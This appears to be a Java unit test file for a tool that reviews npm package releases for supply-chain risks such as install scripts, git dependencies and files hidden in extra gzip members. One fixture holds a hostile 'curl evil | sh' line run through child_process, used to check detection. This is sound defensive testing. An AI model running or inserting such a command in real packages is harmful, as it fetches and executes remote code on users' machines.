package dev.airlock.review;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.airlock.platform.json.Json;
import dev.airlock.publish.TarballInspector;
import dev.airlock.testing.TarBytes;
import dev.airlock.testing.Tarballs;
import dev.airlock.testing.Tarballs.Entry;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ReleaseReviewerTest {
    static ObjectNode manifest(String version) {
        ObjectNode m = Tarballs.manifest("widget", version);
        m.putObject("dependencies").put("left-pad", "^1.0.0");
        return m;
    }

    @Test
    void aReleaseThatAddsAnInstallScriptAndAGitDependencyIsRisky() {
        ObjectNode before = manifest("1.0.0");
        ObjectNode after = manifest("1.1.0");
        after.putObject("scripts").put("postinstall", "node setup.js");
        ((ObjectNode) after.get("dependencies")).put("helper", "github:mallory/helper");
        ((ObjectNode) after.get("dependencies")).put("left-pad", "^1.3.0");
        byte[] old = Tarballs.tgz(Entry.file("package/package.json", Json.write(before)),
                Entry.file("package/index.js", "module.exports = 1;\n"), Entry.file("package/old.txt", "bye\n"));
        byte[] binary = new byte[64];
        binary[3] = 0;
        byte[] now = Tarballs.tgz(Entry.file("package/package.json", Json.write(after)),
                Entry.file("package/index.js", "module.exports = 2;\nrequire('./setup');\n"),
                Entry.file("package/setup.js", "x".repeat(2000) + "\n"),
                new Entry("package/prebuilt.node", binary, TarArchiveEntry.LF_NORMAL, null));

        ReleaseReview r = ReleaseReviewer.review("widget", "1.1.0", after, new ByteArrayInputStream(now), "1.0.0", before,
                new ByteArrayInputStream(old));

        assertThat(r.risky()).isTrue();
        assertThat(r.signals().get(0).level()).isEqualTo("high");
        assertThat(r.signals()).extracting(ReleaseReview.Signal::kind)
                .contains("install-script", "non-registry-dependency", "binary-file", "minified-file", "dependency-added",
                        "dependency-changed");
        assertThat(r.signals()).anySatisfy(s -> assertThat(s.message()).contains("postinstall").contains("node setup.js"));
        assertThat(r.signals()).anySatisfy(s -> assertThat(s.message()).contains("helper installs from git"));
        assertThat(r.files()).extracting(f -> f.path() + ":" + f.change())
                .contains("index.js:changed", "old.txt:removed", "setup.js:added", "prebuilt.node:added", "package.json:changed");
        assertThat(r.diffs().get("index.js")).contains("-module.exports = 1;").contains("+module.exports = 2;");
        assertThat(r.filesBefore()).isEqualTo(3);
        assertThat(r.filesAfter()).isEqualTo(4);
    }

    @Test
    void aPlainPatchReleaseIsQuiet() {
        ObjectNode before = manifest("1.0.0");
        ObjectNode after = manifest("1.0.1");
        byte[] old = Tarballs.tgz(Entry.file("package/package.json", Json.write(before)), Entry.file("package/index.js", "a\n"));
        byte[] now = Tarballs.tgz(Entry.file("package/package.json", Json.write(after)), Entry.file("package/index.js", "b\n"));
        ReleaseReview r = ReleaseReviewer.review("widget", "1.0.1", after, new ByteArrayInputStream(now), "1.0.0", before,
                new ByteArrayInputStream(old));
        assertThat(r.risky()).isFalse();
        assertThat(r.signals()).isEmpty();
        assertThat(new String(r.diffs().get("index.js").getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8)).contains("+b");
    }

    /** Issue 10: the review listed only the first gzip member's files, while npm installs every member's. */
    @Test
    void aTarballOfTwoGzipMembersIsReviewedWhole() {
        ObjectNode before = manifest("1.0.0");
        ObjectNode after = manifest("1.0.1");
        byte[] old = Tarballs.tgz(Entry.file("package/package.json", Json.write(before)));
        byte[] now = TarBytes.twoMembers(Json.write(after), "require('child_process').exec('curl evil | sh')\n");

        TarballInspector.Inspection published = new TarballInspector(1 << 20, 100).inspect(new ByteArrayInputStream(now));
        assertThat(published.files()).containsOnlyKeys("package.json", "install.js");

        ReleaseReview r = ReleaseReviewer.review("widget", "1.0.1", after, new ByteArrayInputStream(now), "1.0.0", before,
                new ByteArrayInputStream(old));
        assertThat(r.files()).extracting(f -> f.path() + ":" + f.change()).contains("install.js:added");
        assertThat(r.filesAfter()).isEqualTo(2);
    }

    @ParameterizedTest
    @CsvSource({"^1.2.3, registry", "npm:other@1, registry", "github:a/b, git", "a/b, git", "git+https://x/y.git, git",
        "https://example.com/x.tgz, remote", "file:../x, file", "./vendor/x, file", "link:../x, link", "latest, registry"})
    void dependencySources(String spec, String expected) {
        assertThat(ReleaseReviewer.source(spec)).isEqualTo(expected);
    }
}
